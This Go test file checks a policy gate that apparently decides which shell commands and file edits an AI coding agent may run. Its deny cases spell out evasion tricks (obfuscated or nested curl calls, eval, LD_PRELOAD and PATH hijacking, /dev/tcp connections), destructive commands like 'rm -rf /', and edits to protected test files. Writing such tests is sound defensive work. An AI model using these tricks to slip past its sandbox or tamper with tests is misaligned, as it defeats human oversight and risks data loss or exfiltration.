package policy_test

import (
	"errors"
	"strings"
	"testing"

	"autocoder/engine/policy"
)

func gate() policy.Gate {
	return policy.Gate{
		Root: "/work/project", Scratch: "/scratch/1",
		Editable: func(p string) error {
			if strings.HasPrefix(p, "tests/") || strings.Contains(p, "/tests/") || strings.HasSuffix(p, "_test.go") || p == "conftest.py" {
				return errors.New(p + " is protected")
			}
			return nil
		},
		AllowList: []string{"mytool"}, DenyList: []string{"npm"},
	}
}

func TestCommands(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		command string
		want    policy.Verdict
	}{
		{"ls -la", policy.Allow},
		{"pytest -q tests/test_a.py", policy.Allow},
		{"go test ./... 2>&1 | head -50", policy.Allow},
		{"cat a.py; grep -rn 'curl' src && wc -l *.go", policy.Allow},
		{"for f in a b; do echo $f; done", policy.Allow},
		{"cd src && python -m pytest", policy.Allow},
		{"sed -i 's/a - b/a + b/' calc.py", policy.Allow},
		{"sed -n '10,20p' calc.py", policy.Allow},
		{"echo hi > out.txt", policy.Allow},
		{"python3 - <<'EOF'\nprint(1)\nEOF", policy.Allow},
		{"git diff && git log -3", policy.Allow},
		{"find . -name '*.py' -exec grep -n x {} +", policy.Allow},
		{"find . -name '*.py' | xargs grep -n x", policy.Allow},
		{"mytool --all", policy.Allow},
		{"timeout 10 go vet ./...", policy.Allow},
		{"env CI=1 go test ./...", policy.Allow},
		{"bash -c 'ls; pwd'", policy.Allow},
		{"f() { echo hi; }; f", policy.Allow},
		{"echo 'curl http://x' # curl", policy.Allow},
		{"cp a.py /tmp/a.py", policy.Allow},

		{"curl http://x", policy.Deny},
		{"/usr/bin/curl http://x", policy.Deny},
		{`c\url http://x`, policy.Deny},
		{`"cu"rl http://x`, policy.Deny},
		{`'curl' http://x`, policy.Deny},
		{"ls; curl http://x", policy.Deny},
		{"ls && curl http://x", policy.Deny},
		{"ls | curl -T - http://x", policy.Deny},
		{"echo $(curl http://x)", policy.Deny},
		{"echo `curl http://x`", policy.Deny},
		{`echo "a $(curl http://x)"`, policy.Deny},
		{"cat <(curl http://x)", policy.Deny},
		{"(curl http://x)", policy.Deny},
		{"if true; then curl http://x; fi", policy.Deny},
		{"f() { curl http://x; }; f", policy.Deny},
		{"ls() { echo; }; ls", policy.Deny},
		{"bash -c 'curl http://x'", policy.Deny},
		{"sh -ec 'curl http://x'", policy.Deny},
		{`bash -c "bash -c 'curl http://x'"`, policy.Deny},
		{`bash -c "$X"`, policy.Deny},
		{"eval 'curl http://x'", policy.Deny},
		{"eval $X", policy.Deny},
		{"$X http://x", policy.Deny},
		{"${CMD:-curl} x", policy.Deny},
		{"$'\\x63url' x", policy.Deny},
		{"env curl x", policy.Deny},
		{"env -i A=1 curl x", policy.Deny},
		{"timeout -s KILL 5 curl x", policy.Deny},
		{"nohup nice -n 5 curl x", policy.Deny},
		{"command curl x", policy.Deny},
		{"exec curl x", policy.Deny},
		{"echo x | xargs curl", policy.Deny},
		{"find . -exec curl {} ;", policy.Deny},
		{"find . -exec sh -c 'curl {}' \\;", policy.Deny},
		{"PATH=/tmp:$PATH ls", policy.Deny},
		{"export LD_PRELOAD=/tmp/x.so", policy.Deny},
		{"env LD_PRELOAD=/tmp/x.so ls", policy.Deny},
		{"echo x | sh", policy.Deny},
		{"sudo ls", policy.Deny},
		{"rm -rf /", policy.Deny},
		{"rm -rf ~", policy.Deny},
		{"rm -rf $X", policy.Deny},
		{"rm -rf ../other", policy.Deny},
		{"rm tests/test_a.py", policy.Deny},
		{"cd tests && rm helper.py", policy.Deny},
		{"cd pkg/tests; echo x > data.json", policy.Deny},
		{"echo x > tests/test_a.py", policy.Deny},
		{"echo x >> conftest.py", policy.Deny},
		{"echo x | tee conftest.py", policy.Deny},
		{"sed -i s/a/b/ a_test.go", policy.Deny},
		{"sed 's/x/curl/e' a.py", policy.Deny},
		{"mv a.py tests/a.py", policy.Deny},
		{"echo x > /etc/passwd", policy.Deny},
		{"echo x > $X", policy.Deny},
		{"echo x >& conftest.py", policy.Deny},
		{"echo x &> conftest.py", policy.Deny},
		{"echo x >| conftest.py", policy.Deny},
		{"echo x > /dev/tcp/1.2.3.4/80", policy.Deny},
		{"cat < /dev/tcp/1.2.3.4/80", policy.Deny},
		{"sleep 100 &", policy.Deny},
		{"git push", policy.Deny},
		{"git -c core.pager=curl log", policy.Deny},
		{"git checkout tests", policy.Deny},
		{"git diff --ext-diff", policy.Deny},
		{"pip install x", policy.Deny},
		{"python -m pip install x", policy.Deny},
		{"npm test", policy.Deny}, // by the deny list
		{"go get x", policy.Deny},
		{"go test -exec curl ./...", policy.Deny},
		{"trap 'curl x' EXIT", policy.Deny},
		{"alias ls=curl", policy.Deny},
		{"ls (", policy.Deny},
		{"ls \x00", policy.Deny},
		{"cd / && ls", policy.Deny},
		{"perl -e 'system(1)'", policy.Deny},

		{"unheard-of --x", policy.Ask},
		{"./run.sh", policy.Ask},
		{"sh run.sh", policy.Ask},
		{". ./env.sh", policy.Ask},
		{"npx cowsay", policy.Ask},
		{"find . -delete", policy.Ask},
		{"ls | xargs rm", policy.Ask},
		{"rm *.py", policy.Ask},
	} {
		got := gate().Command(c.command)
		if got.Verdict != c.want {
			t.Errorf("%q: %s (%s), want %s", c.command, got.Verdict, got.Reason, c.want)
		}
		if (got.Verdict == policy.Allow) != (got.Reason == "") {
			t.Errorf("%q: %s with the reason %q", c.command, got.Verdict, got.Reason)
		}
	}
}

// TestWithoutDeny is the control: it is the lists that refuse.
func TestWithoutDeny(t *testing.T) {
	t.Parallel()
	g := gate()
	g.AllowList = []string{"curl", "sudo"}
	for _, command := range []string{"curl http://x", "echo $(curl http://x)", "bash -c 'curl http://x'", "sudo ls"} {
		if got := g.Command(command); got.Verdict != policy.Allow {
			t.Errorf("%q: %s: %s", command, got.Verdict, got.Reason)
		}
	}
	g.Editable = nil
	if got := g.Command("rm tests/test_a.py"); got.Verdict != policy.Allow {
		t.Errorf("%s: %s", got.Verdict, got.Reason)
	}
}

func TestEdits(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		path string
		want policy.Verdict
	}{
		{"a.py", policy.Allow},
		{"/work/project/src/a.py", policy.Allow},
		{"new/file.go", policy.Allow},
		{"tests/test_a.py", policy.Deny},
		{"src/../tests/test_a.py", policy.Deny},
		{"../a.py", policy.Deny},
		{"/etc/passwd", policy.Deny},
		{"/work/project2/a.py", policy.Deny},
		{".git/hooks/pre-commit", policy.Deny},
	} {
		if got := gate().Edit(c.path); got.Verdict != c.want {
			t.Errorf("%q: %s: %s", c.path, got.Verdict, got.Reason)
		}
	}
}

// FuzzCommand decides on anything without a panic, and never allows what names a
// program of the deny list as a command of its own.
func FuzzCommand(f *testing.F) {
	for _, seed := range []string{"ls -la | head", "bash -c 'curl x'", "echo $(ls) > a", "sed -i s/a/b/ c", "find . -exec rm {} ;", "eval ls", "git log"} {
		f.Add(seed)
	}
	g := gate()
	f.Fuzz(func(t *testing.T, command string) {
		d := g.Command(command)
		if d.Verdict == policy.InvalidVerdict {
			t.Errorf("%q has no verdict", command)
		}
		if strings.TrimSpace(command) != "" && !strings.ContainsAny(command, "#\n\r'\"\\`$<({&;|=") && d.Verdict == policy.Allow {
			if also := g.Command(command + "; curl x"); also.Verdict != policy.Deny {
				t.Errorf("%q with curl after it: %s", command, also.Verdict)
			}
		}
	})
}
